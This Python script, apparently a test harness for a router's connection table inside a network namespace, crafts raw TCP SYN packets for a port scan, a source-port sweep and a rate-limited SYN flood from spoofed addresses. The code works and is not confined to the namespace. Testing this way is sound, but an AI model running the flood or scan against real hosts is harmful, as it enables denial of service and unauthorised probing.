# SPDX-License-Identifier: GPL-2.0-or-later
"""An attack, bounded, inside the network namespace that it is run in.

flood.py scan SOURCE TARGET PORTS: one SYN to each port from 1 on.
flood.py ports SOURCE TARGET PORT COUNT: one SYN from each port of SOURCE, from 1024 on.
flood.py syn COUNT TARGET PORT [FIRST RATE]: SYNs from COUNT different spoofed sources, those from
number FIRST on; RATE a second, or as fast as it goes.
"""
import socket
import struct
import sys
import time


def words(octets):
    return sum(struct.unpack(f"!{len(octets) // 2}H", octets))


def packet(source, target, source_port, target_port):
    """An IPv4 packet with a TCP SYN. The kernel fills in what is left 0 of the IP header."""
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 6, 0, source, target)
    fixed = struct.pack("!IIBBH", 1, 0, 5 << 4, 2, 65535)
    # a router looks at the checksum before it makes an entry; protocol and length are of the pseudo header
    total = words(source) + words(target) + words(fixed) + source_port + target_port + 6 + 20
    total = (total & 0xffff) + (total >> 16)
    total = ~((total & 0xffff) + (total >> 16)) & 0xffff
    return ip + struct.pack("!HH12sHH", source_port, target_port, fixed, total, 0)


def sender():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def send(raw, data, target):
    try:
        raw.sendto(data, (target, 0))
    except OSError:  # the table is full: the kernel says so to the sender
        pass


def scan(source, target, ports):
    raw, source, to = sender(), socket.inet_aton(source), socket.inet_aton(target)
    for port in range(1, int(ports) + 1):
        send(raw, packet(source, to, 40000, port), target)


def ports(source, target, port, count):
    raw, source, to = sender(), socket.inet_aton(source), socket.inet_aton(target)
    for number in range(1024, 1024 + int(count)):
        send(raw, packet(source, to, number, int(port)), target)


def syn(count, target, port, first=0, rate=0):
    raw, to, began = sender(), socket.inet_aton(target), time.monotonic()
    for sent in range(int(count)):
        if int(rate) and sent % 20 == 0:
            time.sleep(max(0, began + sent / int(rate) - time.monotonic()))
        number = int(first) + sent
        spoofed = struct.pack("!I", 0x0b000000 + number * 61 % 0x00ffffff)
        send(raw, packet(spoofed, to, 1024 + number % 50000, int(port)), target)


{"scan": scan, "ports": ports, "syn": syn}[sys.argv[1]](*sys.argv[2:])
